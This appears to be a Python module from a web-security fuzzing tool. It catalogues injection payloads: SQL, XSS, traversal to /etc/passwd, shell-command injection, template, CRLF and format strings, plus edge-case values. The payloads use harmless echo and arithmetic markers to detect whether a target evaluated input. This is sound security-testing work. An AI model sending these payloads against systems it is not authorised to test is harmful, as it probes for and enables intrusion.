"""Attack payloads and edge values, by family.

Each family lists its payloads most canonical first: hypothesis shrinks a
``sampled_from`` towards its first element, so a minimal failing request
carries the simplest payload that still fails.  ``SWEEP`` names the few
payloads of each family that every parameter gets once, deterministically,
before hypothesis explores.

The markers are products (``7777*7777``) and split strings (``'sti'||'llme'``)
whose *result* can only appear in a response if the target evaluated them:
a page that merely echoes the payload never contains the result.
"""

from __future__ import annotations

__all__ = [
    "ATTACKS",
    "CMD_MARKER",
    "EDGE_NUMBERS",
    "EDGE_STRINGS",
    "HEADER_MARKER",
    "SWEEP",
    "SWEEP_NUMBERS",
    "TEMPLATE_MARKER",
    "UNION_MARKER",
    "XSS_TAG",
    "sweep_values",
]

#: 7777 * 7777: what an evaluated template expression shows.
TEMPLATE_MARKER = "60481729"
#: "stillme" followed by 123 * 457: what an evaluated shell command prints.
CMD_MARKER = "stillme56211"
#: What an evaluated SQL concatenation ('stil' || 'lme9q') shows.
UNION_MARKER = "stillme9q"
#: A header name that only exists in a response when a CR LF in the input reached its headers.
HEADER_MARKER = "X-Stillme-Injected"
#: An element name no page has unless the input became markup.
XSS_TAG = "stillme-x"

SQL = (
    "'",
    '"',
    "')",
    "1'",
    "' OR '1'='1",
    "1 OR 1=1",
    "'; SELECT 1; --",
    "\\",
    "' UNION SELECT NULL--",
    "1' ORDER BY 99--",
    "`",
)
XSS = (
    f'"><{XSS_TAG}>',
    "<script>alert(1)</script>",
    f"<{XSS_TAG} onmouseover=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
)
TRAVERSAL = (
    "../../../../../../../../etc/passwd",
    "/etc/passwd",
    "....//....//....//....//....//etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "../../../../../../../../etc/passwd%00.png",
    "..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "file:///etc/passwd",
)
COMMAND = (
    ";echo stillme$((123*457))",
    "|echo stillme$((123*457))",
    "$(echo stillme$((123*457)))",
    "`echo stillme$((123*457))`",
    "&& echo stillme$((123*457))",
    "\necho stillme$((123*457))",
)
TEMPLATE = (
    "{{7777*7777}}",
    "${7777*7777}",
    "<%= 7777*7777 %>",
    "#{7777*7777}",
    "{{7777*'7777'}}",
    "{% print(7777*7777) %}",
)
CRLF = (
    f"x\r\n{HEADER_MARKER}: 1",
    f"x\n{HEADER_MARKER}: 1",
    f"x\r\nSet-Cookie: stillme=1\r\n{HEADER_MARKER}: 1",
)
FORMAT = ("%s%s%s%s%s", "%n%n%n%n", "{0}", "{}", "%(x)s", "{0.__class__}", "%x%x%x%x")

EDGE_NUMBERS = (
    0,
    -1,
    1,
    2**31 - 1,
    2**31,
    -(2**31) - 1,
    2**63 - 1,
    2**63,
    2**64,
    -(2**63) - 1,
    10**100,
    10**400,
    -(10**400),
    1.7976931348623157e308,
    -0.0,
    1e-320,
    0.1,
)
EDGE_STRINGS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "null",
    "None",
    "undefined",
    "NaN",
    "-1",
    "1e309",
    "0x7fffffff",
    "\u202e\u0644\u0627",
    "\u200b",
    "\ufeff",
    "\U0001f600",
    "\u0130",
    "\ufb01",
    "e\u0301",
    "\U0001d573",
    "\u00ff\u00fe",
    "\t\r\n",
    "A" * 257,
    "A" * 5000,
    "[]",
    "{}",
)

#: Every payload of each family.
ATTACKS: dict[str, tuple[str, ...]] = {
    "sql": SQL,
    "xss": XSS,
    "traversal": TRAVERSAL,
    "command": COMMAND,
    "template": TEMPLATE,
    "crlf": CRLF,
    "format": FORMAT,
}

#: The payloads each parameter gets once before hypothesis explores.
SWEEP: dict[str, tuple[str, ...]] = {
    "sql": ("'", '"', "1 OR 1=1"),
    "xss": (XSS[0], XSS[1]),
    "traversal": TRAVERSAL[:4],
    "command": COMMAND[:3],
    "template": TEMPLATE[:4],
    "crlf": CRLF[:2],
    "format": ("%s%s%s%s%s", "{0.__class__}"),
    "edge": ("", "\x00", "A" * 5000, "\u202e\u0644\u0627", "-1", "99999999999999999999"),
}


#: What numeric parameters of a JSON body get in the sweep besides the text payloads (type confusion).
SWEEP_NUMBERS = (0, -1, 2**31, 2**63, 10**400, -(10**400), 1.7976931348623157e308, 0.1, True, None)


def sweep_values(kind: str, *, header: bool = False, typed: bool = False) -> list[object]:
    """The sweep's payloads for a parameter: all families for text, fewer where they cannot apply.

    ``typed``: the parameter is a JSON value, so numbers, booleans and null travel as such.
    """
    values: list[object] = [v for family in SWEEP.values() for v in family]
    if header:
        # Header values cannot carry CR, LF or NUL on the wire, nor (here) anything but ASCII.
        values = [v for v in values if isinstance(v, str) and v.isascii() and not any(c in v for c in "\r\n\x00")]
    if typed and kind in ("integer", "number", "any"):
        values += SWEEP_NUMBERS
    return list(dict.fromkeys(values))
